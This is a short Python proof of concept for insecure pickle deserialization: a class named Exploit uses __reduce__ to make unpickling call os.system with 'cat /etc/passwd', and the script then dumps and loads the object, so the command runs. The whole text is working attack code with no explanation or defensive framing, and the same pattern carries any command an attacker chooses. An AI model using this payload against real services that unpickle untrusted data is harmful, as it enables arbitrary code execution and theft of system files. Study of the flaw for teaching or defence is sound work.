import pickle, os

class Exploit:
    def __reduce__(self):
        return (os.system, ("cat /etc/passwd",))

data = pickle.dumps(Exploit())
pickle.loads(data)
